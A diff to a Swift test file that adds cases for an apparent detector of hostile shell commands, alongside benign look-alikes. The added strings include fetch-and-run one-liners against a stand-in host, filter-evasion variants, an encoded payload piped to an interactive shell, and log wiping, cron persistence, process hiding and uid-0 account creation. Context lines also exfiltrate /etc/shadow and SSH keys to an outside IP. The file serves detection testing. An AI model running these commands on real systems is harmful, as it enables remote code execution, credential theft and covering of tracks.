@@ -29,6 +29,11 @@ import Testing
     "perl -e 'use LWP::Simple; eval LWP::Simple::get(\"http://h.example/\")'",
     "curl -s http://h.example/i | base64 -d | bash",
     "[ -f /opt/x ] || { curl -s http://h.example/x; } | sh",
+    "source <(curl -s h.example/x)", "python3 <(curl -s h.example/x.py)", "x=$(curl -s h.example/x); eval \"$x\"",
+    "dig +short txt h.example | tr -d '\"' | base64 -d | sh", "aws s3 cp s3://b/x - | sh",
+    "tmux new -d 'curl h.example|sh'",
+    "echo 'curl h.example|sh' | at now", "curl${IFS}-s${IFS}h.example|sh", "bash<<<$(curl -s h.example)",
+    "ssh -o ProxyCommand='sh -c \"curl h.example|sh\"' x",
     "find / -name x -exec sh -c 'curl http://h.example | sh' \\;",
   ])
   func fetchingAndRunningIsSeen(_ text: String) {
@@ -63,6 +68,12 @@ import Testing
     "bash -c 'exec 3<>/dev/tcp/db/5432 && echo ok'",
     "truncate -s 0 /var/log/app/app.log",
     "journalctl --vacuum-time=7d",
+    "find /var/log -type f -mtime +30 -exec rm {} \\;",
+    "chmod --reference=/etc/shells /etc/shells.tmp",
+    "case $x in /usr/include/a) echo b ;; esac",
+    "usermod -d /var/lib/app app",
+    "ssh-agent bash -c 'git pull'",
+    "for f in /srv/*.sh; do bash $f; done",
     "chmod 2775 /srv/shared",
     "setcap cap_net_bind_service=+ep /usr/local/bin/caddy",
     "sshpass -p x ssh admin@10.0.0.1 uptime",
@@ -84,6 +95,7 @@ import Testing
     "perl -MMIME::Base64 -e 'eval decode_base64(\"cHJpbnQ=\")'",
     "base64 -d /opt/d > /opt/e; chmod +x /opt/e; /opt/e",
     "php -r 'eval(gzinflate(base64_decode(\"x\")));'",
+    "bash -c {echo,Y3VybCBoLmV4fHNo}|{base64,-d}|{bash,-i}",
     "rev <<< 'di' | sh",
   ])
   func encodedPayloadsAreSeen(_ text: String) {
@@ -130,7 +142,9 @@ import Testing
     ("history -c", .historyTampering), ("HISTSIZE=0 bash", .historyTampering), ("set +o history", .historyTampering),
     ("> /var/log/auth.log", .logTampering), ("sed -i '/198.51.100.7/d' /var/log/secure", .logTampering),
     ("rm -rf /var/log/*", .logTampering), ("truncate -s 0 /var/log/wtmp", .logTampering),
-    ("journalctl --vacuum-time=1s", .logTampering),
+    ("journalctl --vacuum-time=1s", .logTampering), ("find /var/log -type f -exec truncate -s 0 {} \\;", .logTampering),
+    ("for f in /var/log/*.log; do > $f; done", .logTampering), ("mount -o bind /tmp/e /proc/123", .processHidden),
+    ("echo '* * * * * /opt/x' | crontab", .persistenceCreation), ("useradd -ou 0 x", .accountCreation),
     ("touch -r /bin/ls /usr/bin/upd", .timestampChange), ("touch -d '2019-01-01' /etc/cron.d/x", .timestampChange),
     ("chattr +i /etc/cron.d/x", .immutableFlag),
     ("tar czf - /etc/shadow /root/.ssh | curl -T - http://198.51.100.7/", .credentialAccess),
